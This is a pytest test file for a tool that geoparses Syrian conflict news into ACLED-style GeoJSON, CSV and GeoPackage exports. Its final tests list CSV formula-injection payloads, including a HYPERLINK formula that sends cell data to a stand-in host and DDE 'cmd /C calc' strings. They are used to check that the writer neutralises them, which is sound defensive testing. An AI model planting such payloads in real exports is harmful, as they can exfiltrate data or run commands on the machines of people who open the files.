import csv
import io
import json

import geopandas as gpd
import pytest

from geo.export.csv import CSVWriter
from geo.export.geojson import GeoJSONWriter
from geo.export.merge import merge_events
from geo.extract.documents import load_article, make_article
from geo.extract.pipeline import extract_article
from geo.extract.records import article_records

from .conftest import SEEDS

#: ACLED's own export columns we promise, in ACLED's order (from its codebook), before clashmap's.
ACLED_COLUMNS = [
    "event_id_cnty",
    "event_date",
    "year",
    "time_precision",
    "event_type",
    "sub_event_type",
    "country",
    "admin1",
    "location",
    "latitude",
    "longitude",
    "geo_precision",
    "source",
    "notes",
]


@pytest.fixture(scope="module")
def seed_records(res):
    out = []
    for p in sorted(SEEDS.glob("*.txt")):
        out.extend(article_records(extract_article(load_article(p), res), res.gazetteer))
    return out


@pytest.fixture(scope="module")
def seed_texts():
    return {p.stem: load_article(p).text for p in SEEDS.glob("*.txt")}


def _written(records, writer=GeoJSONWriter):
    buf = io.StringIO()
    with writer(buf) as w:
        for r in records:
            w.write(r)
    return buf.getvalue()


def _csv_rows(records) -> list[dict]:
    return list(csv.DictReader(io.StringIO(_written(records, CSVWriter))))


def test_geojson_parses_with_geopandas_in_wgs84(seed_records, tmp_path):
    path = tmp_path / "seeds.geojson"
    path.write_text(_written(seed_records), encoding="utf-8")
    frame = gpd.read_file(path)
    assert len(frame) == len(seed_records) == 105
    assert frame.crs.to_epsg() == 4326  # RFC 7946: WGS84, read as such
    data = json.loads(path.read_text())
    assert "crs" not in data  # RFC 7946 has no crs member
    tadamon = frame[frame["place_id"] == "tadamon"].iloc[0]
    assert (round(tadamon.geometry.x, 5), round(tadamon.geometry.y, 5)) == (36.30944, 33.47778)


def test_points_lie_in_their_expected_bounding_box(seed_records):
    data = json.loads(_written(seed_records))
    damascus = [f for f in data["features"] if f["properties"]["admin1"] == "Damascus"]
    assert len(damascus) > 50
    for f in damascus:
        lon, lat = f["geometry"]["coordinates"]
        # [lon, lat] order: Damascus is at 36.3 E, 33.5 N.
        assert 36.1 < lon < 36.5 and 33.3 < lat < 33.7, f["properties"]["place"]


def test_every_feature_keeps_its_evidence(seed_records, seed_texts):
    for f in json.loads(_written(seed_records))["features"]:
        p = f["properties"]
        assert seed_texts[p["doc_id"]][p["start"] : p["end"]] == p["surface"]
        assert p["surface"] in p["sentence"] and p["outlet"] and p["published"]
        assert p["mention_id"] == f"{p['doc_id']}:{p['start']}-{p['end']}"
        assert p["place_source"] and p["geo_precision"] in (1, 2, 3)


def test_events_merge_and_count_sources(seed_records):
    events = merge_events(seed_records)
    assert len(events) == 30 < sum(r.is_event for r in seed_records)
    assert sum(len(e.mentions) for e in events) == sum(r.is_event and r.resolved for r in seed_records)
    for e in events:
        assert {(m.place_id, m.event_type, m.date) for m in e.mentions} == {(e.place_id, e.event_type, e.date)}
    tadamon = [e for e in events if e.place_id == "tadamon"]
    assert tadamon and all(e.corroboration == 1 for e in tadamon)
    props = events[0].properties()
    assert props["mention_ids"] == [m.mention_id for m in events[0].mentions] and props["sources"]
    assert len({e.event_id for e in events}) == len(events)
    dated = [e.date for e in events if e.date]
    assert dated == sorted(dated) and all(e.date is None for e in events[len(dated) :])


def test_merge_is_the_same_whatever_the_order(seed_records):
    import random

    shuffled = list(seed_records)
    random.Random(7).shuffle(shuffled)
    assert merge_events(shuffled) == merge_events(seed_records)


def test_out_of_core_merger_gives_what_merge_events_gives(seed_records):
    from geo.export.merge import EventMerger

    for events_only in (True, False):
        with EventMerger(events_only=events_only) as merger:
            for i in range(0, len(seed_records), 7):  # in batches, as the CLI adds them
                merger.add(seed_records[i : i + 7])
            assert list(merger.events()) == merge_events(seed_records, events_only=events_only)


def test_sub_event_tie_goes_to_the_codebook_order(seed_records):
    from dataclasses import replace

    m = next(r for r in seed_records if r.event_type == "Battles")
    a = replace(m, mention_id="a", doc_id="a", sub_event_type="Non-state actor overtakes territory")
    b = replace(m, mention_id="b", doc_id="b", sub_event_type="Armed clash")
    for order in ([a, b], [b, a]):
        (ev,) = merge_events(order)
        assert ev.sub_event_type == "Armed clash" and ev.corroboration == 1


def test_csv_columns_and_values(seed_records, seed_texts):
    rows = _csv_rows(seed_records)
    assert list(rows[0])[: len(ACLED_COLUMNS)] == ACLED_COLUMNS
    assert len(rows) == len(seed_records)
    for row, rec in zip(rows, seed_records):
        assert row["event_id_cnty"] == rec.mention_id and row["notes"] == rec.sentence
        assert seed_texts[row["doc_id"]][int(row["start"]) : int(row["end"])] == row["surface"]
        if rec.resolved:
            assert float(row["latitude"]) == pytest.approx(rec.lat) and float(row["longitude"]) == pytest.approx(
                rec.lon
            )
        if rec.date:
            assert row["event_date"] == rec.date and row["year"] == rec.date[:4] and row["time_precision"] == "1"


def test_csv_of_events_counts_outlets(seed_records):
    events = merge_events(seed_records)
    rows = _csv_rows(events)
    assert [r["event_id_cnty"] for r in rows] == [e.event_id for e in events]
    for row, ev in zip(rows, events):
        outlets = {m.outlet for m in ev.mentions}
        assert int(row["corroboration"]) == len(outlets) and row["source"] == "; ".join(sorted(outlets))
    assert {r["corroboration"] for r in rows} == {"1", "2"}  # the seeds are three outlets' reports


def test_csv_codes_a_known_week_at_its_middle(res):
    article = make_article("Troops shelled Qaboun last week.", "w", published="2012-07-22")
    (rec,) = article_records(extract_article(article, res), res.gazetteer)
    assert rec.date is None and rec.date_precision == "week"
    (row,) = _csv_rows([rec])
    assert row["event_date"] == "2012-07-12" and row["time_precision"] == "2"


def test_geopackage_of_events_opens_with_every_event(seed_records, tmp_path):
    from geo.export.parquet import write_geopackage

    events = merge_events(seed_records)
    path = tmp_path / "events.gpkg"
    assert write_geopackage(events, path) == 30
    frame = gpd.read_file(path, layer="events")
    assert frame.crs.to_epsg() == 4326 and list(frame["event_id"]) == [e.event_id for e in events]
    first = frame.iloc[0]
    assert first["mention_ids"] == "; ".join(m.mention_id for m in events[0].mentions)
    assert (round(first.geometry.x, 5), round(first.geometry.y, 5)) == (
        round(events[0].lon, 5),
        round(events[0].lat, 5),
    )


#: Cells a spreadsheet would run as formulas (OWASP "CSV Injection"), one per way of starting one.
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]
#: Columns that hold numbers or flags the writer makes itself, never text from an article.
NUMERIC_COLUMNS = {"latitude", "longitude", "time_precision", "geo_precision", "start", "end", "corroboration"}


def _hostile(record, value: str):
    """The record with every text field (article text, title, outlet, url, ids, names) set to ``value``."""
    from dataclasses import fields, replace

    keep = {"date_precision"}  # a code the writer reads, not text from an article
    texts = {f.name: value for f in fields(record) if "str" in str(f.type) and f.name not in keep}
    return replace(record, **texts, lat=-33.5, lon=36.25, date_precision="day")


def _assert_no_formula(rows: list[dict]) -> None:
    for row in rows:
        for col, cell in row.items():
            if col in NUMERIC_COLUMNS or not cell:
                continue
            assert cell[0] not in "=+-@\t\r\uff1d\uff0b\uff0d\uff20", (col, cell)


@pytest.mark.parametrize("value", HOSTILE_CELLS)
def test_csv_neutralises_formulas_in_every_text_column(seed_records, value):
    rec = _hostile(next(r for r in seed_records if r.is_event and r.resolved), value)
    (row,) = _csv_rows([rec])
    _assert_no_formula([row])
    assert row["notes"] == row["doc_id"] == row["url"] == row["source"] == row["surface"] == "'" + value
    # numbers stay numbers, minus sign and all
    assert (row["latitude"], row["longitude"], row["start"]) == ("-33.5", "36.25", str(rec.start))
    events = _csv_rows(merge_events([rec]))
    _assert_no_formula(events)
    assert events[0]["notes"] == events[0]["source"] == "'" + value


def test_csv_leaves_ordinary_text_alone(seed_records):
    rec = _hostile(seed_records[0], "Clashes in Midan - activists")
    (row,) = _csv_rows([rec])
    assert row["notes"] == row["source"] == "Clashes in Midan - activists"


def test_cli_csv_neutralises_a_hostile_article(tmp_path):
    from geo.tools.cli import main

    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text("=1+1 Clashes erupted in Tadamon on Monday.\n", encoding="utf-8")
    meta = {"title": "@SUM(1)", "outlet": "+cmd|' /C calc'!A0", "url": "-1+1", "published": "2012-07-17"}
    (folder / "a.meta.json").write_text(json.dumps(meta), encoding="utf-8")
    out = tmp_path / "out.csv"
    for level in ("mentions", "events"):
        assert main(["extract", str(folder), "--level", level, "--format", "csv", "-o", str(out), "-q"]) == 0
        rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
        assert rows and rows[0]["source"] == "'+cmd|' /C calc'!A0"
        _assert_no_formula(rows)
        if level == "mentions":
            assert rows[0]["url"] == "'-1+1" and rows[0]["notes"].startswith("'=1+1")
